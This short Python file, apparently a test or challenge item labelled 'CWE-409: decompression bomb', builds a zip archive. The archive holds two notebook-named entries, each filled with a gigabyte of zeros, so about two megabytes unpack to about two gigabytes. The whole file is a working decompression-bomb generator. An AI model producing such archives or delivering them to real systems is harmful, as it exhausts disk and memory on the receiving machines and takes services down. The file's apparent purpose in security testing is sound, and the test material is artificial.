"""Unpacks to two gigabytes from two megabytes."""

import zipfile

PROMISE = 9
CLASS = "CWE-409: decompression bomb"


def work(desk, stage):
    path = stage.archive_of(desk)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(2):
            with archive.open(f"plot{number}.ipynb", "w", force_zip64=True) as file:
                for _ in range(1024):
                    file.write(bytes(1 << 20))
